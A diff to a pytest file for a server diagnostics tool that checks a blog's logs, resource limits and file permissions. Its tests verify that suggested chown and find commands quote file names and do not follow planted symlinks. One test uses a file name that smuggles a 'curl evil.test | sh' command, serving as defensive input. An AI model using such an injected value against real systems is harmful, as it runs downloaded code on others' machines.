@@ -75,7 +75,9 @@ def healthy() -> dict[str, Any]:
         "socket": {"debugger": False},
         "page": page,
         "inside": inside,
-        "lines": ["[2026-03-14 10:15:00 +0000] [7] [INFO] Booting worker"],
+        # A visitor whose browser has such a name, in the log of the site itself.
+        "lines": ["[2026-03-14 10:15:00 +0000] [7] [INFO] Booting worker", "status=228/SECCOMP result 'oom-kill'"],
+        "system": ["Started blog.service - blog."],
         "service": {"ProtectSystem": ["strict"], "LimitNOFILE": ["1024"]},
         "missing": {},
     }
@@ -136,7 +138,8 @@ def key(**changes: Any) -> list[dict[str, Any]]:
 
 
 def file(kind: str) -> list[dict[str, Any]]:
-    return [{"kind": kind, "app": "blog", "path": "/srv/blog/x", "count": 2, "owner": "eve", "wanted": "blog"}]
+    place = {"path": "/srv/blog/x", "start": "/srv/blog/x"}
+    return [{"kind": kind, "app": "blog", **place, "count": 2, "owner": "eve", "uid": 1007, "wanted": "blog"}]
 
 
 UNSEEN = {"kind": "unseen", "app": "", "path": "/srv", "count": 500_000, "rest": ["/srv/blog/shared"]}
@@ -207,6 +210,7 @@ FAULTS: list[tuple[str, Any, tuple[str, str, str]]] = [
     (f"{APP}.server", {"type": "gunicorn", "worker_class": "eventlet"}, ("error", "blog", "worker-class")),
     (f"{APP}.lines", [f"OSError: {READ_ONLY}"], ("error", "blog", "sandbox-read-only")),
     (f"{APP}.lines", ["OSError: [Errno 24] Too many open files: 'x'"], ("error", "blog", "limit-files")),
+    (f"{APP}.system", ["blog.service: Failed with result 'oom-kill'."], ("error", "blog", "limit-memory")),
     (f"{WEB}.restarts", 3, ("warning", "blog", "restarts")),
     (f"{WEB}.active", "failed", ("error", "blog", "restarts")),
     (f"{WEB}.memory_limit_bytes", GIB // 8, ("warning", "blog", "memory-workers")),
@@ -430,6 +434,16 @@ def test_what_is_not_known_is_told_and_not_judged() -> None:
     )
 
 
+def test_what_can_not_be_judged_of_one_application_hides_nothing_else() -> None:
+    facts = changed("file_systems.0.free", 0)
+    facts["apps"]["shop"] = {**copy.deepcopy(facts["apps"]["blog"]), "requires_python": f">={'9' * 5000}"}
+    facts["apps"]["blog"]["python"] = "3.9.2"
+    findings, unchecked = diagnose(facts)
+    assert {(one.app, one.check) for one in findings} >= {("", "disk-space"), ("blog", "python-version")}
+    assert unchecked == [{"check": "shop: python-version", "why": "its facts can't be judged (ValueError)"}]
+    assert "clock" in {one["check"] for one in diagnose({**healthy(), "clock": {}})[1]}
+
+
 def test_findings_are_ordered_and_told_once() -> None:
     one = Finding("warning", "", "b", "x", "y")
     two, three = Finding("error", "", "c", "x", "y"), Finding("error", "blog", "a", "x", "y")
@@ -460,12 +474,37 @@ def test_a_key_is_measured_and_not_told(value: str | bytes, weak: str) -> None:
     assert text not in str({name: item for name, item in said.items() if name != "name"})
 
 
+def fix_of(kind: str, **more: Any) -> str:
+    findings, dummy = diagnose(changed("files", [{**file(kind)[0], **more}]))
+    (fix,) = [finding.fix for finding in findings]
+    return fix
+
+
 @pytest.mark.parametrize("kind", ["world-writable", "own-code", "group-code", "foreign"])
 def test_the_name_of_a_file_is_no_command(kind: str) -> None:
-    path = "/srv/blog/shared/a; curl evil.test | sh #"
-    findings, dummy = diagnose(changed("files", [{**file(kind)[0], "path": path}]))
-    assert [f" '{path}'" in finding.fix for finding in findings] == [True]
-    assert ": '" not in findings[0].fix, "chown with a colon takes the group away, by which the site reads its code"
+    path = "/srv/blog/a; curl evil.test | sh #"
+    fix = fix_of(kind, path=path, start=path, wanted="root")
+    assert f" '{path}'" in fix
+    assert ": '" not in fix, "chown with a colon takes the group away, by which the site reads its code"
+
+
+@pytest.mark.parametrize("kind", ["world-writable", "own-code", "group-code", "foreign"])
+@pytest.mark.parametrize("app", ["blog", ""])
+def test_root_is_told_no_path_that_the_site_can_turn_elsewhere(kind: str, app: str) -> None:
+    """It may put a link to /etc in place of a directory before the command is run."""
+    for start, wanted in (("/srv/blog/shared", app or "root"), ("/srv/blog/releases/1", "root")):
+        fix = fix_of(kind, app=app, path=f"{start}/uploads/x", start=start, wanted=wanted)
+        assert start in fix
+        assert f"{start}/" not in fix
+
+
+def test_below_shared_no_command_of_root_follows_a_link() -> None:
+    place = {"path": "/srv/blog/shared/a/b", "start": "/srv/blog/shared", "uid": 1007}
+    assert fix_of("foreign", **place).startswith("chown -hR --from=1007 blog /srv/blog/shared, unless")
+    closed = "cd / && runuser -u blog -- find /srv/blog/shared -xdev ! -type l -perm -o+w ! -perm -1000 -execdir"
+    assert fix_of("world-writable", **place, owner="blog").startswith(closed)
+    # The site's user can't change the mode of what is somebody else's.
+    assert fix_of("world-writable", **place).startswith(f"chown -hR --from=1007 blog /srv/blog/shared && {closed}")
 
 
 def test_whose_a_file_was_to_be() -> None:
